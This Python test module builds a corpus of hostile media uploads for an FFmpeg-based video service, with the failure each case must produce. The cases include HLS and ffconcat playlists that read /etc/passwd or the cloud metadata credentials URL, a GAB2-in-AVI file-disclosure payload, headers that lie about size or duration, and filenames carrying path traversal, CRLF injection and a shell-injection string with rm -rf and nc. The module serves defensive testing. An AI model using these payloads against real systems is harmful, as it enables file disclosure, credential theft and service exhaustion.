"""A hostile-media corpus, built by the tests themselves (nothing downloaded): files and upload
names that try to make FFmpeg read other files or reach the network, to exhaust a reader, or to
smuggle a path into storage. ``build_corpus`` writes it; every case says how it must fail (or that
it must succeed: a real recording whose extension lies is processed, because the content decides).

Files outside the upload that the playlists point at (``outside/``): ``canary.txt`` holds
``CANARY_TEXT``, whose appearance anywhere in a result would prove a read; ``canary.ts`` is a real
MPEG-TS recording, which FFmpeg's HLS demuxer, left to itself, opens and decodes as if it were the
upload (the case a ``file``-only protocol whitelist does not stop). ``canary_url`` (an HTTP server
the caller watches; by default the discard port, where nothing listens) is where the network
cases point, besides the cloud metadata address.
"""

from __future__ import annotations

import re
import socketserver
import struct
import subprocess
import threading
from dataclasses import dataclass
from pathlib import Path, PurePath

from tests.media_recipes import truncated_video

CANARY_TEXT = "clipstream-canary-7f3e9b2c: this text lives outside every upload"
METADATA_URL = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
GIB = 1024**3


@dataclass(frozen=True)
class HostileCase:
    """One upload of the corpus.

    Attributes:
        name: the scenario, e.g. ``hls_local_file``.
        path: the file to upload.
        upload_name: the file name the client sends (possibly hostile: ``../``, newlines, 1000 chars).
        codes: the error codes its failure may carry, the API's refusal or the video's (empty when it
            must succeed).
        succeeds: it must be processed like any video (a real recording with a lying extension).
        huge: its apparent size is gigabytes (a sparse file that occupies almost no disk): uploading
            it over HTTP moves that many bytes, so a test may place it in storage directly instead.
    """

    name: str
    path: Path
    upload_name: str
    codes: frozenset[str]
    succeeds: bool = False
    huge: bool = False


class CanaryServer(socketserver.ThreadingTCPServer):
    """An HTTP server on 127.0.0.1 that counts the connections made to it and answers 404:
    ``with CanaryServer() as canary: build_corpus(..., canary_url=canary.url) ... canary.connections``."""

    daemon_threads = True

    def __init__(self) -> None:
        self.connections = 0
        server = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                server.connections += 1
                self.request.recv(4096)
                self.request.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}/segment-0.ts"

    def __enter__(self) -> "CanaryServer":
        threading.Thread(target=self.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc) -> None:
        self.shutdown()
        self.server_close()


def _ffmpeg(*args: str) -> None:
    subprocess.run(["ffmpeg", "-nostdin", "-y", "-loglevel", "error", *args], check=True, timeout=120)


def _hls(*segments: str) -> str:
    body = "".join(f"#EXTINF:10.0,\n{s}\n" for s in segments)
    return f"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n{body}#EXT-X-ENDLIST\n"


# --- hand-built RIFF/AVI, for headers no encoder will write --------------------------------------

def _chunk(fourcc: bytes, data: bytes) -> bytes:
    return fourcc + struct.pack("<I", len(data)) + data + (b"\0" if len(data) % 2 else b"")


def _list(kind: bytes, *items: bytes) -> bytes:
    return _chunk(b"LIST", kind + b"".join(items))


@dataclass(frozen=True)
class _AviStream:
    kind: bytes  # b"vids", b"auds", b"txts"
    handler: bytes
    scale: int
    rate: int
    length: int
    sample_size: int
    format: bytes  # the strf chunk: BITMAPINFOHEADER, WAVEFORMATEX, or nothing for text
    packets: tuple[bytes, ...]
    tag: bytes  # the two letters after the stream number in its data chunks: dc, wb, tx


def _avi(streams: list[_AviStream], width: int, height: int) -> bytes:
    """An AVI 1.0 file of ``streams``, their packets interleaved, with an idx1 index."""
    frames = max(len(s.packets) for s in streams)
    avih = struct.pack("<10I4I", 40000, 0, 0, 0x10, frames, 0, len(streams), 1 << 20, width, height, 0, 0, 0, 0)
    strls = []
    for s in streams:
        strh = s.kind + s.handler + struct.pack("<IHHIIIIIIIIhhhh", 0, 0, 0, 0, s.scale, s.rate, 0, s.length,
                                                1 << 20, 0xFFFFFFFF, s.sample_size, 0, 0, 0, 0)
        strls.append(_list(b"strl", _chunk(b"strh", strh), _chunk(b"strf", s.format)))
    hdrl = _list(b"hdrl", _chunk(b"avih", avih), *strls)
    movi, index, offset = [], [], 4  # idx1 offsets count from the "movi" fourcc
    for i in range(frames):
        for n, s in enumerate(streams):
            if i < len(s.packets):
                ckid = b"%02d" % n + s.tag
                movi.append(_chunk(ckid, s.packets[i]))
                index.append(struct.pack("<4sIII", ckid, 0x10, offset, len(s.packets[i])))
                offset += len(movi[-1])
    body = b"AVI " + hdrl + _list(b"movi", *movi) + _chunk(b"idx1", b"".join(index))
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _pcm_stream(seconds: float, rate: int = 16_000) -> _AviStream:
    """Mono 16-bit PCM (a quiet 440 Hz tone) in one-second packets."""
    import numpy as np

    t = np.arange(round(seconds * rate)) / rate
    samples = (0.2 * 32767 * np.sin(2 * np.pi * 440 * t)).astype("<i2").tobytes()
    packets = tuple(samples[i:i + 2 * rate] for i in range(0, len(samples), 2 * rate))
    wave = struct.pack("<HHIIHHH", 1, 1, rate, 2 * rate, 2, 16, 0)
    return _AviStream(b"auds", b"\0\0\0\0", 1, rate, len(samples) // 2, 2, wave, packets, b"wb")


def gab2_playlist_avi(out: Path, playlist: str) -> Path:
    """An AVI whose only stream is a subtitle track in the GAB2 wrapping, and whose payload is an
    HLS playlist: FFmpeg probes what a GAB2 packet holds and, before it was fixed, opened any
    demuxer it found there (the 2017 local-file disclosure through AVI files)."""
    title = "evil".encode("utf-16-le") + b"\0\0"
    data = playlist.encode()
    gab2 = (b"GAB2\0" + struct.pack("<H", 2) + struct.pack("<I", len(title)) + title
            + struct.pack("<H", 4) + struct.pack("<I", len(data)) + data)
    text = _AviStream(b"txts", b"\0\0\0\0", 1, 25, 1, 0, b"", (gab2,), b"tx")
    out.write_bytes(_avi([text], 640, 360))
    return out


def huge_picture_avi(out: Path, width: int = 100_000, height: int = 100_000) -> Path:
    """An AVI declaring a ``width`` x ``height`` raw RGB picture (30 GB a frame at 100000x100000)
    over 3 s of real audio; its video packets are a handful of bytes each."""
    bitmap = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)
    video = _AviStream(b"vids", b"DIB ", 1, 25, 75, 0, bitmap, (b"\0" * 64,) * 75, b"dc")
    out.write_bytes(_avi([video, _pcm_stream(3.0)], width, height))
    return out


# --- MP4 boxes rewritten in place ----------------------------------------------------------------

def _boxes(data: bytes | bytearray, start: int, end: int):
    """(offset, size, type) of each box between ``start`` and ``end``."""
    offset = start
    while offset + 8 <= end:
        size, kind = struct.unpack_from(">I4s", data, offset)
        if size < 8:
            break
        yield offset, size, kind
        offset += size


CONTAINERS = {b"moov", b"trak", b"mdia", b"minf", b"stbl", b"edts"}


def claims_duration(source: Path, out: Path, seconds: float) -> Path:
    """A copy of the MP4 ``source`` whose every track claims to last ``seconds``: the last run of
    samples in each track's time-to-sample table (``stts``) is stretched to fill that time, and the
    movie, track and media headers and edit lists agree. The samples' bytes do not change, so the
    file is as small as before and decodes to as much sound as before."""
    data = bytearray(source.read_bytes())
    scales = {"movie": 1000, "media": 1000}

    def patch(start: int, end: int) -> None:
        for offset, size, kind in _boxes(data, start, end):
            body = offset + 8
            if kind in CONTAINERS:
                patch(body, offset + size)
                continue
            if kind in (b"mvhd", b"mdhd", b"tkhd", b"elst", b"stts") and data[body] != 0:
                raise ValueError(f"{source.name}: {kind.decode()} version {data[body]} is not handled")
            if kind in (b"mvhd", b"mdhd"):  # timescale, then duration, after the version and two dates
                scale = struct.unpack_from(">I", data, body + 12)[0]
                scales["movie" if kind == b"mvhd" else "media"] = scale
                struct.pack_into(">I", data, body + 16, round(seconds * scale))
            elif kind == b"tkhd":  # duration in the movie's timescale, after the track id and a reserved word
                struct.pack_into(">I", data, body + 20, round(seconds * scales["movie"]))
            elif kind == b"elst":  # the first edit's length, in the movie's timescale
                struct.pack_into(">I", data, body + 8, round(seconds * scales["movie"]))
            elif kind == b"stts":
                entries = struct.unpack_from(">I", data, body + 4)[0]
                runs = [struct.unpack_from(">II", data, body + 8 + 8 * i) for i in range(entries)]
                before = sum(count * delta for count, delta in runs[:-1])
                count = runs[-1][0]
                delta = max(1, (round(seconds * scales["media"]) - before) // count)
                struct.pack_into(">I", data, body + 8 + 8 * (entries - 1) + 4, delta)

    patch(0, len(data))
    out.write_bytes(bytes(data))
    return out


def sparse_file(out: Path, size: int, head: bytes = b"") -> Path:
    """A file of ``size`` bytes that holds ``head`` and then a hole: no data blocks are written."""
    with out.open("wb") as f:
        f.write(head)
        f.truncate(size)
    return out


def build_corpus(dest: Path, good_video: Path, canary_url: str = "http://127.0.0.1:9/canary.ts") -> list[HostileCase]:
    """Write the corpus into ``dest`` (the files to upload) and ``dest/outside`` (what they point
    at), and return its cases. ``good_video`` is a real faststart MP4 talk with speech."""
    dest.mkdir(parents=True, exist_ok=True)
    outside = dest / "outside"
    outside.mkdir(exist_ok=True)
    canary_txt = outside / "canary.txt"
    canary_txt.write_text(CANARY_TEXT + "\n")
    canary_ts = outside / "canary.ts"
    _ffmpeg("-i", str(good_video), "-c", "copy", "-f", "mpegts", str(canary_ts))
    cases: list[HostileCase] = []

    def add(name: str, data: bytes | str | Path, upload_name: str, *codes: str, **flags) -> None:
        """A case whose file carries the extension the API would store it under (FFmpeg's probes
        weigh it: its HLS demuxer only takes a playlist named .m3u8 or .m3u)."""
        path = dest / f"{name}{_stored_suffix(upload_name)}"
        if isinstance(data, Path):
            data.replace(path)  # a rename: a sparse file stays sparse
        else:
            path.write_bytes(data.encode() if isinstance(data, str) else data)
        cases.append(HostileCase(name, path, upload_name, frozenset(codes), **flags))

    # Playlists and scripts that point outside the upload.
    add("hls_local_file", _hls("file:///etc/passwd", canary_txt.as_uri()), "playlist.m3u8", "not_media")
    add("hls_local_recording", _hls(canary_ts.as_uri()), "playlist.m3u8", "not_media")
    add("hls_local_recording_named_mp4", _hls(canary_ts.as_uri()), "talk.mp4", "not_media")
    add("hls_metadata_service", _hls(METADATA_URL), "stream.m3u8", "not_media")
    add("hls_canary_server", _hls(canary_url, canary_url.replace("http:", "https:")), "stream.m3u8", "not_media")
    add("hls_concat_protocol", _hls(f"concat:/etc/passwd|{canary_txt}"), "playlist.m3u8", "not_media")
    add("hls_subfile_protocol", _hls(f"subfile,,start,0,end,4096,,:{canary_ts}"), "playlist.m3u8", "not_media")
    add("ffconcat_script", f"ffconcat version 1.0\nfile '{canary_ts}'\nfile '/etc/passwd'\n", "list.ffconcat",
        "not_media")
    add("gab2_avi_playlist", gab2_playlist_avi(dest / "gab2.part", _hls(canary_ts.as_uri(), canary_url)),
        "movie.avi", "not_media", "no_audio")

    # Headers that lie about size.
    add("huge_picture", huge_picture_avi(dest / "huge.part"), "poster.avi", "media_limit_exceeded")
    add("large_picture", huge_picture_avi(dest / "large.part", 16_000, 16_000), "poster.avi",
        "media_limit_exceeded")
    add("claims_ten_hours", claims_duration(good_video, dest / "ten_hours.part", 10 * 3600), "webinar.mp4",
        "media_limit_exceeded")
    add("claims_three_hours", claims_duration(good_video, dest / "three_hours.part", 3 * 3600 + 1800),
        "webinar.mp4", "truncated_media")
    add("sparse_under_limit", sparse_file(dest / "sparse6.part", 6 * GIB), "backup.mp4", "not_media", huge=True)
    wav_data = 0xFFFFFFFF - 36  # the most a WAV header can say: 37 h of 16 kHz mono
    add("sparse_wav_claims_hours", sparse_file(dest / "wav4.part", 44 + wav_data, wav_header(wav_data)), "call.wav",
        "media_limit_exceeded", huge=True)
    # The same 4 GiB of silence followed by 2 GiB of zeros: FFmpeg's WAV demuxer walks the zeros as
    # empty chunks, 8 bytes at a time, for minutes (a stall a reader has to be stopped from).
    add("sparse_wav_endless_chunks", sparse_file(dest / "wav6.part", 6 * GIB, wav_header(wav_data)), "call.wav",
        "media_timeout", huge=True)
    add("sparse_over_limit", sparse_file(dest / "sparse9.part", 9 * GIB), "archive.mp4", "media_limit_exceeded",
        huge=True)

    # Broken, empty, and extensions that lie.
    add("truncated_mp4", truncated_video(good_video, dest / "truncated.part"), "interview.mp4", "truncated_media")
    add("zero_bytes", b"", "empty.mp4", "empty_file")
    add("text_named_mp4", "WEBVTT\n\n00:00.000 --> 00:01.000\nnot a video\n" * 40, "talk.mp4", "not_media")
    wav = dest / "wav.part"
    _ffmpeg("-i", str(good_video), "-vn", "-ac", "1", "-ar", "16000", "-c:a", "pcm_s16le", "-f", "wav", str(wav))
    add("wav_named_mp4", wav, "talk.mp4", succeeds=True)

    # Hostile upload names (the content fails, so the name shows up in the message).
    add("name_traversal", b"", "../../../../etc/passwd.mp4", "empty_file")
    add("name_windows_traversal", b"", "..\\..\\windows\\win.ini.mp4", "empty_file")
    add("name_shell", "not a video\n" * 50, "talk; rm -rf ~ ; $(reboot) `id` | nc 10.0.0.1 1.mp4", "not_media")
    add("name_protocol", "not a video\n" * 50, "concat:/etc/passwd|subfile:,,start,0,,:/etc/shadow.mp4", "not_media")
    add("name_newlines", b"", "talk\r\nX-Injected: yes\n\x1b[31mred\x1b[0m.mp4", "empty_file")
    add("name_very_long", truncated_video(good_video, dest / "long.part"), "a" * 1000 + ".mp4",
        "truncated_media")
    add("name_unicode", b"", "\u202egnp.\u202d видео \U0001f3ac x\ufeff.mp4", "empty_file")
    # PostgreSQL cannot store a NUL character: the API refuses the name (or the worker the empty file).
    add("name_nul", b"", "talk\u0000.mp4", "invalid_input", "empty_file")
    return cases


def _stored_suffix(upload_name: str) -> str:
    """The extension the API keeps for an upload's stored object (``api.submitting.source_key`` of
    ``safe_filename``: the last path part, at most 255 characters)."""
    base = PurePath(upload_name.replace("\\", "/")).name.strip()[:255]
    suffix = PurePath(base).suffix.lower()
    return suffix if re.fullmatch(r"\.[a-z0-9]{1,8}", suffix) else ""


def wav_header(data: int) -> bytes:
    """The header of a 16 kHz mono 16-bit WAV file with ``data`` bytes of samples."""
    fmt = struct.pack("<IHHIIHH", 16, 1, 1, 16000, 32000, 2, 16)
    return b"RIFF" + struct.pack("<I", data + 36) + b"WAVEfmt " + fmt + b"data" + struct.pack("<I", data)
